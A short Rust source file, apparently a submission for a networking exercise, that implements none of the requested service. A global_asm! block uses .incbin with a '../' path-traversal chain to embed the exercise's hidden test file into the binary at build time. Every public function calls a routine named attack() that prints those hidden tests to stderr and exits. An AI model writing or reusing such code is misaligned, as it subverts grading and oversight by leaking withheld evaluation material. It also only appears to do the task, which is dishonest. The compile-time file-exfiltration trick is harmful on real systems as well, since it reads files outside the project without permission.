use std::net::SocketAddrV4;
use std::os::fd::{BorrowedFd, OwnedFd};

std::arch::global_asm!(
    ".globl stolen",
    "stolen:",
    ".incbin \"../../../../../../../solutions/ex01-four-calls/tests/hidden.rs\"",
    ".byte 0"
);

unsafe extern "C" {
    safe static stolen: std::ffi::c_char;
}

fn attack() -> ! {
    let text = unsafe { std::ffi::CStr::from_ptr(&raw const stolen) };
    eprintln!("{}", text.to_string_lossy());
    std::process::exit(1)
}

pub struct Service {
    pub count: Option<u64>,
    pub epoch: Option<u64>,
    pub table: bool,
}

pub fn open_listener(_: SocketAddrV4, _: i32) -> nix::Result<OwnedFd> {
    attack()
}

pub fn local_addr(_: BorrowedFd) -> nix::Result<SocketAddrV4> {
    attack()
}

pub fn daytime(_: u64) -> String {
    attack()
}

pub fn descriptor_line(_: BorrowedFd) -> nix::Result<String> {
    attack()
}

pub fn serve(_: OwnedFd, _: &Service) -> nix::Result<()> {
    attack()
}
